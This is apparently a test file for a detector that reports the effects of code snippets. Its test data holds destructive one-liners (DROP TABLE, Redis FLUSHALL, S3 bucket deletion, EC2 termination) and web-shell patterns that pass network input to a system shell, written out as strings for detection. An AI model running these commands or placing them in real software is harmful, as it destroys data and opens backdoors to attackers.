import { describe, expect, it } from "vitest";
import { tellEffects } from "./tell.ts";

describe("clients of databases and clouds in code", () => {
  it.each([
    [
      "python",
      "import psycopg2; psycopg2.connect('x').cursor().execute('DROP TABLE t')",
      "sql other DROP TABLE t",
    ],
    [
      "python",
      "import sqlite3; sqlite3.connect('x.db').execute('DROP TABLE t')",
      "sql sqlite DROP TABLE t",
    ],
    ["python", "import redis; redis.Redis('x').flushall()", "order redis flushall"],
    [
      "python",
      "import redis; redis.Redis('x').execute_command('FLUSHALL')",
      "order redis flushall",
    ],
    [
      "python",
      "import pymongo; pymongo.MongoClient('x').drop_database('p')",
      "order mongodb dropdatabase p",
    ],
    [
      "python",
      "from m import User\nUser.objects.all().delete()",
      "order sql delete user --on=other",
    ],
    ["python", "session.query(User).delete()", "order sql delete table --on=other"],
    [
      "python",
      "import boto3; boto3.client('s3').delete_bucket(Bucket='b')",
      "order aws s3api delete-bucket --bucket b",
    ],
    [
      "python",
      "import boto3; boto3.resource('ec2').Instance('i').terminate()",
      "order aws ec2 terminate-instances",
    ],
    [
      "python",
      "import boto3; boto3.resource('s3').Bucket('b').objects.all().delete()",
      "order aws s3 rm --recursive s3://bucket",
    ],
    [
      "node",
      "const {DeleteTableCommand: D} = require('@aws-sdk/client-dynamodb'); new D({TableName: 't'})",
      "order aws dynamodb delete-table --table-name t",
    ],
    [
      "node",
      "const A = require('aws-sdk'); new A.EC2().terminateInstances({})",
      "order aws ec2 terminate-instances",
    ],
    ["node", "db.collection('x').deleteMany({})", "order mongodb deletemany collection"],
    ["node", "prisma.$executeRaw`DROP TABLE t`", "sql other DROP TABLE t"],
    ["node", "require('knex')({}).schema.dropTable('t')", "order sql drop table t --on=other"],
    ["ruby", "User.unscoped.delete_all", "order sql delete user --on=other"],
    ["ruby", "ActiveRecord::Base.connection.execute('DROP TABLE t')", "sql other DROP TABLE t"],
    ["php", "DB::statement('DROP TABLE t');", "sql other DROP TABLE t"],
    ["php", "App\\Models\\User::truncate();", "order sql truncate user --on=other"],
    ["Rscript", "dbExecute(con, 'DROP TABLE t')", "sql other DROP TABLE t"],
  ])("tells what %s does in %s", (program, code, told) => {
    expect(tellEffects(program, code)).toContain(told);
  });

  it.each([
    ["python", "c.execute('SELECT 1')"],
    ["python", "import sqlite3; sqlite3.connect(':memory:').execute('DROP TABLE t')"],
    ["python", "def reset(c):\n  c.execute('DROP TABLE t')"],
    ["python", "User.objects.filter(id=1).delete()"],
    ["python", "user.delete()"],
    ["python", "df.drop(columns=['a'])"],
    ["python", "import boto3; boto3.client('s3').list_buckets()"],
    ["node", "/drop (\\w+)/.exec('drop table x')"],
    ["node", "new Map().delete('x')"],
    ["ruby", "User.where(id: 1).delete_all"],
    ["ruby", "user.posts.delete_all"],
    ["php", "User::where('id', 1)->delete();"],
  ])("tells of nothing that %s deletes in %s", (program, code) => {
    expect(tellEffects(program, code).filter((each) => /^(?:sql|order) /.test(each))).toEqual([]);
  });

  it.each([
    [
      "node",
      "require('http').createServer((q, r) => require('child_process').exec(q.url)).listen(1)",
    ],
    [
      "node",
      "require('net').createServer(s => s.on('data', d => require('child_process').exec(d)))",
    ],
    [
      "node",
      "const w = new WebSocket('wss://x'); w.onmessage = m => require('child_process').exec(m.data)",
    ],
    ["node", "Bun.serve({fetch(q) { require('child_process').exec(q.url) }})"],
    [
      "python",
      "import http.server, os\nclass H(http.server.BaseHTTPRequestHandler):\n  def do_GET(self): os.system(self.path[1:])",
    ],
    ["python", "import flask, os\n@app.route('/')\ndef f(c): os.system(c)"],
    ["python", "from flask import request\nimport os\nos.system(request.args['c'])"],
    ["php", "system($_GET['c']);"],
    ["Rscript", "s <- socketConnection('192.0.2.1', 1); system(readLines(s, 1))"],
  ])("tells that %s runs what others send in %s", (program, code) => {
    expect(tellEffects(program, code)).toContain("sh \uFFFC");
  });

  it.each([
    ["node", "require('http').createServer((q, r) => r.end(q.url)).listen(1)"],
    ["node", "app.get('/', (q, r) => require('child_process').exec('git log'))"],
    ["python", "import os\ndef run(c): os.system(c)"],
    ["python", "import flask, os\n@app.route('/')\ndef f(): return os.popen('date').read()"],
    ["php", "echo htmlspecialchars($_GET['c']); system('date');"],
  ])("tells of no command of others' in %s: %s", (program, code) => {
    expect(tellEffects(program, code)).not.toContain("sh \uFFFC");
  });
});
